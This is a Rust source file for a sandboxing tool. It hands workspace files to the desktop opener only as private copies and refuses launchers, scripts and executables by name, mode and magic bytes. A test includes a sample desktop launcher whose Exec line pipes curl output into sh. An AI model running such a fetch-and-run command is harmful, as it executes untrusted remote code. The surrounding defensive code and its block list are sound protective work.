//! What the system opener (`o`) is handed. Never the workspace path: block code can swap the
//! file for a symlink between airlock's check and the opener's read, and the desktop would
//! open what the link names. The opener gets a private copy instead (0600, in a 0700
//! directory of airlock's, gone when airlock ends), made from the descriptor that was
//! checked. Launchers and executables are refused: a desktop opener runs them rather than
//! showing them.

use std::fs::{DirBuilder, File, OpenOptions};
use std::io::Read;
use std::os::unix::fs::{DirBuilderExt, FileExt, MetadataExt, OpenOptionsExt};
use std::path::{Path, PathBuf};

use crate::files::human_size;
use crate::files::read::open_regular;

/// Files larger than this are not copied (the copy is made while the screen waits).
pub(crate) const MAX_HANDED_BYTES: u64 = 256 << 20;
/// How much of a file's start is looked at for what it is.
const HEAD_BYTES: usize = 4096;

/// Names a desktop hands to a program that runs them, or that install or launch something:
/// launchers (`.desktop`, `.lnk`, `.url`, `.webloc`), shell scripts and the macOS kinds that
/// Terminal runs (`.command`, `.tool`, `.terminal`), Python (macOS's Python Launcher and
/// Windows run `.py` and `.pyw` when opened), Java archives (`java -jar`), AppImages,
/// installers and packages, and Windows programs and scripts (Wine, WSL).
const RUNNABLE: &[&str] = &[
    "desktop",
    "lnk",
    "url",
    "webloc",
    "inetloc",
    "sh",
    "bash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "fish",
    "command",
    "tool",
    "terminal",
    "py",
    "pyw",
    "pyz",
    "pyc",
    "pyo",
    "jar",
    "appimage",
    "run",
    "deb",
    "rpm",
    "flatpakref",
    "flatpakrepo",
    "snap",
    "pkg",
    "mpkg",
    "dmg",
    "app",
    "workflow",
    "exe",
    "msi",
    "com",
    "scr",
    "bat",
    "cmd",
    "ps1",
    "vbs",
    "vbe",
    "wsf",
];

/// First bytes of programs: ELF, a script's `#!`, Mach-O (both byte orders, and universal),
/// and Windows executables.
const PROGRAM_MAGIC: &[(&[u8], &str)] = &[
    (b"\x7fELF", "an ELF program"),
    (b"#!", "a script (it begins with #!)"),
    (b"\xfe\xed\xfa\xce", "a Mach-O program"),
    (b"\xfe\xed\xfa\xcf", "a Mach-O program"),
    (b"\xce\xfa\xed\xfe", "a Mach-O program"),
    (b"\xcf\xfa\xed\xfe", "a Mach-O program"),
    (b"\xca\xfe\xba\xbe", "a Mach-O or Java program"),
    (b"MZ", "a Windows program"),
];

/// The copies handed out this session, each in a directory of its own (the file keeps its
/// name, which is what the opener picks a program by).
#[derive(Default)]
pub(crate) struct Handover {
    dir: Option<tempfile::TempDir>,
    copies: u64,
}

impl Handover {
    /// A private copy of the regular file `relative` inside `root`, once it is checked not to
    /// be a launcher or a program; an error says why not in words.
    pub(crate) fn copy(&mut self, root: &Path, relative: &Path) -> Result<PathBuf, String> {
        let opened = open_regular(root, relative).map_err(|why| why.to_string())?;
        let file = opened.file;
        let name = relative
            .file_name()
            .ok_or_else(|| "it has no name".to_string())?;
        let mode = file.metadata().map_err(|err| err.to_string())?.mode();
        let mut head = vec![0; HEAD_BYTES];
        let read = file.read_at(&mut head, 0).map_err(|err| err.to_string())?;
        head.truncate(read);
        if let Some(why) = refusal(&name.to_string_lossy(), mode, &head) {
            return Err(why);
        }
        if opened.size > MAX_HANDED_BYTES {
            return Err(too_large());
        }
        let dir = self.next_dir()?;
        let copy = dir.join(name);
        write_copy(&file, &copy)?;
        Ok(copy)
    }

    /// A new directory, 0700, under this session's own.
    fn next_dir(&mut self) -> Result<PathBuf, String> {
        let cannot = |err: std::io::Error| format!("cannot make a private copy: {err}");
        if self.dir.is_none() {
            // tempfile makes it 0700.
            let dir = tempfile::Builder::new()
                .prefix("airlock-opened-")
                .tempdir()
                .map_err(cannot)?;
            self.dir = Some(dir);
        }
        let base = self.dir.as_ref().map(tempfile::TempDir::path);
        let base = base.ok_or_else(|| "cannot make a private copy".to_string())?;
        self.copies += 1;
        let dir = base.join(self.copies.to_string());
        DirBuilder::new().mode(0o700).create(&dir).map_err(cannot)?;
        Ok(dir)
    }
}

/// Copies what `file` holds, from its start, into a new 0600 file at `copy`.
fn write_copy(file: &File, copy: &Path) -> Result<(), String> {
    let cannot = |err: std::io::Error| format!("cannot make a private copy: {err}");
    let mut out = OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(0o600)
        .open(copy)
        .map_err(cannot)?;
    let mut source = PositionedReader { file, at: 0 }.take(MAX_HANDED_BYTES + 1);
    let copied = std::io::copy(&mut source, &mut out).map_err(cannot)?;
    if copied > MAX_HANDED_BYTES {
        // It grew while it was copied.
        let _ = std::fs::remove_file(copy);
        return Err(too_large());
    }
    Ok(())
}

fn too_large() -> String {
    format!(
        "it is larger than {}, the most airlock copies to hand on",
        human_size(MAX_HANDED_BYTES)
    )
}

/// Reads `file` from `at` on, whatever its descriptor's position.
struct PositionedReader<'a> {
    file: &'a File,
    at: u64,
}

impl Read for PositionedReader<'_> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let read = self.file.read_at(buf, self.at)?;
        self.at += read as u64;
        Ok(read)
    }
}

/// Why a file named `name`, with this mode and these first bytes, is not handed to the
/// system opener: a desktop runs launchers and programs instead of showing them.
pub(crate) fn refusal(name: &str, mode: u32, head: &[u8]) -> Option<String> {
    let lower = name.to_ascii_lowercase();
    if let Some((_, extension)) = lower.rsplit_once('.')
        && RUNNABLE.contains(&extension)
    {
        return Some(format!(
            "a .{extension} file is run or installed by the desktop, not shown"
        ));
    }
    if mode & 0o111 != 0 {
        return Some("it is executable (it has an x bit), so the desktop could run it".into());
    }
    if let Some((_, what)) = PROGRAM_MAGIC
        .iter()
        .find(|(magic, _)| head.starts_with(magic))
    {
        return Some(format!("it is {what}, which the desktop could run"));
    }
    if head
        .windows(b"[Desktop Entry]".len())
        .any(|window| window == b"[Desktop Entry]")
    {
        return Some("it is a desktop launcher ([Desktop Entry]), which the desktop runs".into());
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn launchers_and_programs_are_refused_by_name_mode_and_content() {
        let refused = |name: &str, mode: u32, head: &[u8]| refusal(name, mode, head);
        assert!(refused("run.desktop", 0o644, b"").is_some_and(|why| why.contains(".desktop")));
        assert!(refused("Setup.EXE", 0o644, b"").is_some());
        assert!(refused("tool.AppImage", 0o644, b"").is_some());
        assert!(refused("plot.py", 0o644, b"import x").is_some());
        assert!(refused("notes.txt", 0o755, b"hello").is_some_and(|why| why.contains("x bit")));
        assert!(refused("data", 0o644, b"\x7fELF\x02").is_some_and(|why| why.contains("ELF")));
        assert!(refused("notes", 0o644, b"#!/bin/sh\n").is_some());
        let launcher = b"# a comment\n[Desktop Entry]\nExec=sh -c 'curl x | sh'\n";
        assert!(refused("readme", 0o644, launcher).is_some());
        assert_eq!(refused("chart.png", 0o644, b"\x89PNG"), None);
        assert_eq!(refused("report.pdf", 0o600, b"%PDF-1.7"), None);
    }
}
